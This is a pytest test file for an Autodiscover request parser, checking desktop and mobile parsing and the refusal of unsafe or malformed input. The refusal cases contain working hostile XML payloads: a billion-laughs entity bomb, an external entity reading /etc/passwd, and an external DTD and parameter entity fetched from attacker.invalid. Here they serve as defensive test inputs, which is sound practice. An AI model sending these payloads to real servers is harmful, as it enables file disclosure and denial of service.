import pytest

from plugins.autodiscover.requests import (
    DESKTOP_RESPONSE_SCHEMA,
    MAX_REQUEST_BYTES,
    MOBILE_RESPONSE_SCHEMA,
    AutodiscoverRequest,
    AutodiscoverRequestError,
    RequestKind,
    parse_request,
)

DESKTOP_NS = (
    "http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"
)
MOBILE_NS = (
    "http://schemas.microsoft.com/exchange/autodiscover/mobilesync/requestschema/2006"
)

# As a desktop mail client sends it: declaration, indentation, CRLF endings.
DESKTOP_REQUEST = (
    '<?xml version="1.0" encoding="utf-8"?>\r\n'
    f'<Autodiscover xmlns="{DESKTOP_NS}">\r\n'
    "  <Request>\r\n"
    "    <EMailAddress>jane@example.com</EMailAddress>\r\n"
    f"    <AcceptableResponseSchema>{DESKTOP_RESPONSE_SCHEMA}"
    "</AcceptableResponseSchema>\r\n"
    "  </Request>\r\n"
    "</Autodiscover>"
).encode()

# As a phone's ActiveSync client sends it: one element a line, no indent.
MOBILE_REQUEST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    f'<Autodiscover xmlns="{MOBILE_NS}">\n'
    "<Request>\n"
    "<EMailAddress>jane@example.com</EMailAddress>\n"
    f"<AcceptableResponseSchema>{MOBILE_RESPONSE_SCHEMA}"
    "</AcceptableResponseSchema>\n"
    "</Request>\n"
    "</Autodiscover>\n"
).encode()


def request_body(email: str, schema: str = "", namespace: str = DESKTOP_NS) -> bytes:
    schema_element = (
        f"<AcceptableResponseSchema>{schema}</AcceptableResponseSchema>"
        if schema
        else ""
    )
    return (
        f'<Autodiscover xmlns="{namespace}"><Request>'
        f"<EMailAddress>{email}</EMailAddress>{schema_element}"
        "</Request></Autodiscover>"
    ).encode()


def test_desktop_request_parses_to_desktop_kind():
    request = parse_request(DESKTOP_REQUEST)

    assert request == AutodiscoverRequest(
        kind=RequestKind.DESKTOP,
        email="jane@example.com",
        acceptable_schema=DESKTOP_RESPONSE_SCHEMA,
    )


def test_mobile_request_parses_to_mobile_kind():
    request = parse_request(MOBILE_REQUEST)

    assert request == AutodiscoverRequest(
        kind=RequestKind.MOBILE,
        email="jane@example.com",
        acceptable_schema=MOBILE_RESPONSE_SCHEMA,
    )


def test_prefixed_namespace_parses_like_default_one():
    body = (
        f'<a:Autodiscover xmlns:a="{MOBILE_NS}"><a:Request>'
        "<a:EMailAddress>jane@example.com</a:EMailAddress>"
        f"<a:AcceptableResponseSchema>{MOBILE_RESPONSE_SCHEMA}"
        "</a:AcceptableResponseSchema></a:Request></a:Autodiscover>"
    ).encode()

    assert parse_request(body).kind is RequestKind.MOBILE


def test_mobile_schema_in_desktop_namespace_gets_mobile():
    body = request_body("jane@example.com", MOBILE_RESPONSE_SCHEMA, DESKTOP_NS)

    assert parse_request(body).kind is RequestKind.MOBILE


def test_missing_schema_follows_request_namespace():
    request = parse_request(request_body("jane@example.com", namespace=MOBILE_NS))

    assert request.kind is RequestKind.MOBILE
    assert request.acceptable_schema == MOBILE_RESPONSE_SCHEMA


def test_email_address_is_stripped_of_blanks():
    request = parse_request(request_body("\n  jane@example.com \t"))

    assert request.email == "jane@example.com"


def test_escaped_characters_in_address_are_decoded():
    request = parse_request(request_body("o&apos;neil&amp;co@example.com"))

    assert request.email == "o'neil&co@example.com"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Autodiscover><Request><EMailAddress>&lol4;</EMailAddress></Request></Autodiscover>
"""
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE Autodiscover [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<Autodiscover xmlns="{DESKTOP_NS}"><Request>'
    "<EMailAddress>&xxe;</EMailAddress></Request></Autodiscover>"
).encode()
EXTERNAL_DTD = b'<!DOCTYPE Autodiscover SYSTEM "http://attacker.invalid/x.dtd">'
EXTERNAL_DTD += request_body("jane@example.com")
BARE_DTD = b"<!DOCTYPE Autodiscover>" + request_body("jane@example.com")
PARAMETER_ENTITY = (
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p">%p;]>'
    + request_body("jane@example.com")
)
OVERSIZED = request_body("jane@example.com").replace(
    b"<Request>", b"<Request>" + b" " * MAX_REQUEST_BYTES
)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(BARE_DTD, id="bare-dtd"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
        pytest.param(OVERSIZED, id="oversized"),
        pytest.param(b"", id="empty"),
        pytest.param(b"jane@example.com", id="not-xml"),
        pytest.param(request_body("jane@example.com")[:-5], id="truncated"),
        pytest.param(b"\xff\xfe<\x00A\x00", id="garbage-bytes"),
        pytest.param(
            b'<?xml version="1.0" encoding="x-unknown"?><a/>', id="unknown-encoding"
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="ascii"?><a>\xe9</a>', id="lying-encoding"
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="utf-8"?><a>\xe9</a>', id="invalid-utf8"
        ),
    ],
)
def test_unsafe_or_malformed_body_is_refused(body):
    with pytest.raises(AutodiscoverRequestError):
        parse_request(body)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            request_body("jane@example.com", namespace="urn:other"), id="foreign-ns"
        ),
        pytest.param(
            b"<Autodiscover><Request><EMailAddress>jane@example.com"
            b"</EMailAddress></Request></Autodiscover>",
            id="no-namespace",
        ),
        pytest.param(
            f'<Discover xmlns="{DESKTOP_NS}"/>'.encode(), id="wrong-root-element"
        ),
        pytest.param(f'<Autodiscover xmlns="{DESKTOP_NS}"/>'.encode(), id="no-request"),
        pytest.param(
            f'<Autodiscover xmlns="{DESKTOP_NS}"><Request/><Request/>'
            "</Autodiscover>".encode(),
            id="two-requests",
        ),
        pytest.param(
            f'<Autodiscover xmlns="{DESKTOP_NS}"><Request><LegacyDN>/o=x/cn=jane'
            "</LegacyDN></Request></Autodiscover>".encode(),
            id="legacy-dn-only",
        ),
        pytest.param(request_body(""), id="empty-email"),
        pytest.param(request_body("jane"), id="email-without-at"),
        pytest.param(request_body("@example.com"), id="email-without-local-part"),
        pytest.param(request_body("jane@"), id="email-without-domain"),
        pytest.param(request_body("ja ne@example.com"), id="email-with-space"),
        pytest.param(request_body("a" * 320 + "@example.com"), id="email-too-long"),
        pytest.param(
            request_body("jane@example.com", "urn:unknown-schema"), id="unknown-schema"
        ),
    ],
)
def test_invalid_request_content_is_refused(body):
    with pytest.raises(AutodiscoverRequestError):
        parse_request(body)


def test_body_at_size_cap_is_accepted():
    body = request_body("jane@example.com")
    padded = body.replace(
        b"<Request>", b"<Request>" + b" " * (MAX_REQUEST_BYTES - len(body))
    )

    assert len(padded) == MAX_REQUEST_BYTES
    assert parse_request(padded).email == "jane@example.com"
